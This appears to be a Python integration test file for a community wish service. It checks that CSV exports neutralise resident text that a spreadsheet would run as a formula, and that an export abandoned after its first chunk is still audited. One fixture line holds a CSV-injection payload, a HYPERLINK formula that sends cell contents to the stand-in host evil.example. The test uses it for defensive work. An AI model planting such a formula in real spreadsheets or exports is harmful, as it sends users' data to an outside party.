"""ExportWishes writes CSV a spreadsheet will not run, and leaves its audit row before the first row leaves, so a
client that stops reading early still leaves a trace."""

from __future__ import annotations

import csv
import io
import os
import uuid

from linli.wishes.v1 import wishes_pb2 as pb

from services.runtime.auth import Caller, Role
from services.runtime.pii import PersonalDataCipher
from services.wishes.store import NewWish
from tests.integration.helpers.wish_service import COMMUNITY, LOOKUP, STREET, calling, wish_service

CIPHER = PersonalDataCipher({"k1": os.urandom(32)}, "k1", LOOKUP)
STAFF = Caller("staff-7", Role.STAFF, STREET)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


async def submit(service: object, text: str) -> None:
    await service.store.submit(  # type: ignore[attr-defined]
        STAFF, uuid.uuid4().hex, NewWish(int(COMMUNITY), ("1", COMMUNITY), text, "visit", b"x", "张*", None, "")
    )


async def test_resident_text_that_would_run_as_a_formula_is_exported_as_text(database_url: str) -> None:
    async with wish_service(database_url, CIPHER) as service:
        await submit(service, FORMULA)
        await submit(service, "@SUM(1+1)")
        await submit(service, "我要一个音响")
        with calling(STAFF):
            chunks = [c async for c in service.ExportWishes(pb.ExportWishesRequest(org_unit_id=STREET), None)]  # type: ignore[arg-type]
    rows = list(csv.DictReader(io.StringIO("".join(c.csv for c in chunks))))
    assert [r["text"] for r in rows] == ["'" + FORMULA, "'@SUM(1+1)", "我要一个音响"]


async def test_an_export_stopped_after_its_first_chunk_is_audited(database_url: str) -> None:
    async with wish_service(database_url, CIPHER) as service:
        for n in range(3):
            await submit(service, f"心愿{n}")
        with calling(STAFF):
            export = service.ExportWishes(pb.ExportWishesRequest(org_unit_id=STREET), None)  # type: ignore[arg-type]
            first = await anext(export)
            await export.aclose()  # the client hung up
        audit = await service.store.pool.fetch(
            "select actor, actor_role, subject_kind, subject_id from audit_log where action = 'export_wishes'"
        )
    assert first.rows == 3
    assert [tuple(r) for r in audit] == [("staff-7", "staff", "org_unit", STREET)]
